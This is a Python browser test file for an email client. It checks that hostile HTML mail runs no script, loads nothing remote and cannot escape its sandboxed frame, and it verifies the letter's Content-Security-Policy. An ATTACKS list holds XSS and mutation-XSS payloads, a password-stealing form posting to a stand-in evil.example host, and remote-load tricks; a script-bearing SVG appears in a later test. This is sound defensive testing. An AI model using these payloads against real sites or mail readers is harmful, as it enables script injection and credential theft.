"""What the worst mails try, in a real browser: nothing runs, nothing remote loads, nothing breaks out."""

import base64

import pytest

from regulars.conversation.incoming import File
from regulars.conversation.models import Entry
from regulars.kit import markup

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
ATTACKS = [
    "<script>parent.document.body.remove(); alert(1)</script>",
    '<img src=x onerror="alert(1)"><svg onload=alert(1)><animate onbegin=alert(1)></svg>',
    '<a href="javascript:alert(1)" id="click">click me</a><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example/steal"><input name="password"><button id="click">Sign in</button></form>',
    '<style>@import "https://evil.example/x.css"; * {background: url(https://evil.example/y.png)}</style>',
    '<div style="position:fixed;inset:0;background:url(https://evil.example/z.png)">over everything</div>',
    '<img src="https://evil.example/open.gif"><img srcset="https://evil.example/set.gif 1x">',
    '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video>',
    '<link rel="stylesheet" href="https://evil.example/l.css"><base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "</iframe></div></details></main><h1 id='out'>broken out</h1>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<a href="https://shop.example/" target="_top" id="click">a link that wants the whole window</a>',
]


@pytest.fixture
def open_mail(browse, ada, hear):
    """A function: opens the whole mail, stored as given, and gives the page and what it tried."""

    def opened(html, files=()):
        entry = hear("Hello", html=html, files=files)
        page = browse(ada, f"/people/{entry.person_id}/")
        page.tried = []
        page.on("dialog", lambda dialog: (page.tried.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda asked: ".example" in asked.url and page.tried.append(asked.url))
        page.get_by_text("The whole mail, as it was sent").click()
        page.frame_locator("iframe.letter").locator("body").wait_for()
        page.wait_for_load_state("networkidle")
        return page

    return opened


@pytest.mark.browser
@pytest.mark.parametrize("stored", ["as it came", "sanitised"])
def test_mail_when_it_attacks_runs_loads_and_breaks_nothing(open_mail, stored):
    html = "\n".join(ATTACKS)
    page = open_mail(html if stored == "as it came" else markup.sanitise(html))
    frame = page.frame_locator("iframe.letter")
    for number in range(frame.locator("#click, a").count()):
        frame.locator("#click, a").nth(number).click(timeout=2000, force=True, no_wait_after=True)

    assert [tried for tried in page.tried if not tried.startswith("https://shop.example")] == []
    assert page.locator("#out").count() == 0
    assert page.locator("#composer").is_visible()
    assert "/people/" in page.url


@pytest.mark.browser
def test_pictures_from_elsewhere_when_asked_for_come_in_that_answer_alone(open_mail):
    page = open_mail(markup.sanitise('<p>Hi</p><img src="https://pictures.example/a.png" alt="a">'))
    assert page.tried == []

    with page.expect_request("https://pictures.example/**"):
        page.get_by_role("link", name="Show the pictures from elsewhere").click()
    assert page.tried == ["https://pictures.example/a.png"]


@pytest.mark.browser
def test_picture_inside_a_mail_when_it_came_along_is_shown_and_svg_is_not(open_mail):
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    files = (File("a.png", "image/png", PIXEL, "a@x", True), File("b.svg", "image/svg+xml", drawing, "b@x", True))
    page = open_mail('<img src="cid:a@x" alt="the photo"><img src="cid:b@x" alt="the drawing">', files)
    widths = page.frame_locator("iframe.letter").locator("img").evaluate_all("all => all.map(one => one.naturalWidth)")

    assert widths == [1, 0]
    assert page.tried == []


def test_letter_when_fetched_is_boxed_by_its_own_policy(client, ada, hear):
    entry = hear("Hello", html="<p>Hello</p>")
    client.force_login(ada)
    response = client.get(f"/entries/{entry.id}/letter/")

    assert response["Content-Security-Policy"].startswith(
        "default-src 'none'; style-src 'unsafe-inline'; img-src 'self' data:;"
    )
    assert "sandbox" in response["Content-Security-Policy"]
    assert "allow-scripts" not in response["Content-Security-Policy"]
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    assert "https:" not in response["Content-Security-Policy"]
    asked = client.get(f"/entries/{entry.id}/letter/?pictures=1")
    assert "img-src data: https:" in asked["Content-Security-Policy"]


def test_letter_when_it_is_text_alone_is_shown_as_text(client, ada, hear):
    entry = hear("Hello", text="Hello\n\n> <b>you</b> wrote")
    client.force_login(ada)

    assert "&gt; &lt;b&gt;you&lt;/b&gt; wrote" in client.get(f"/entries/{entry.id}/letter/").content.decode()


def test_letter_when_a_stranger_asks_is_behind_the_sign_in(client, hear):
    entry = hear("Hello", html="<p>Hello</p>")

    assert client.get(f"/entries/{entry.id}/letter/").status_code == 302
    assert Entry.objects.count() == 1
